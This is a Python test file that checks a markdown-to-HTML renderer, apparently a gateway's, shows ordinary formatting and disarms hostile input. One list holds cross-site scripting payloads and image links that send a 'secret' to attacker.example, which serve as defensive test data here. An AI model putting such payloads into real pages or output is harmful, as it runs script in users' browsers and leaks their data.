"""An answer as HTML: what is written in it is seen, and does nothing (T-20, T-21)."""

from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest

from gateway.markdown import as_html

REL = 'rel="noopener noreferrer nofollow"'


class Reader(HTMLParser):
    """Notes every element and attribute a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(as_html(text))
    return reader.found


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>\n"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("# a", "<h1>a</h1>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("```python\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
        ("[a](https://x.org/)", f'<p><a href="https://x.org/" {REL}>a</a></p>\n'),
        ("[a](mailto:a@x.org)", f'<p><a href="mailto:a@x.org" {REL}>a</a></p>\n'),
        ("a & b\x00", "<p>a &amp; b\ufffd</p>\n"),
        ("", ""),
    ],
)
def test_what_markdown_means_is_shown(text, html):
    assert as_html(text) == html


def test_a_table_is_a_table():
    assert [tag for tag, _ in elements("|a|b|\n|:-|-:|\n|1|2|")] == [
        "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "<a href='javascript:alert(1)'>a</a>",
        "<svg/onload=alert(1)>",
        "<iframe src=https://attacker.example></iframe>",
        "<!-- --!><script>alert(1)</script>",
        "[a](javascript:alert(1))",
        "[a]( JaVaScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java&#10;script:alert(1))",
        "[a](vbscript:x)",
        "[a](data:text/html,<script>1</script>)",
        "[a](data:image/svg+xml;base64,PHN2Zz4=)",
        "[a](file:///etc/passwd)",
        "[a]\n\n[a]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![a](https://attacker.example/?q=secret)",
        "![a][b]\n\n[b]: https://attacker.example/?q=secret",
        '[a](https://x.org "onmouseover=alert(1)")',
        '[a](https://x.org/"onclick="alert(1))',
        "`</code><script>alert(1)</script>`",
        "|<script>|<b>|\n|-|-|\n|<img src=x>|[a](javascript:1)|",
        '```"><script>alert(1)</script>\n```',
    ],
)
def test_nothing_acts_or_is_fetched(text):
    """Only links, which somebody must click, and only to where a browser may be sent."""
    found = elements(text)
    assert {tag for tag, _ in found} & {"script", "img", "svg", "iframe", "style", "form"} == set()
    for tag, attributes in found:
        assert set(attributes) <= ({"href", "rel", "title"} if tag == "a" else set())
        address = urljoin("https://house.example/", attributes.get("href") or "")
        assert urlsplit(address).scheme in ("https", "mailto")
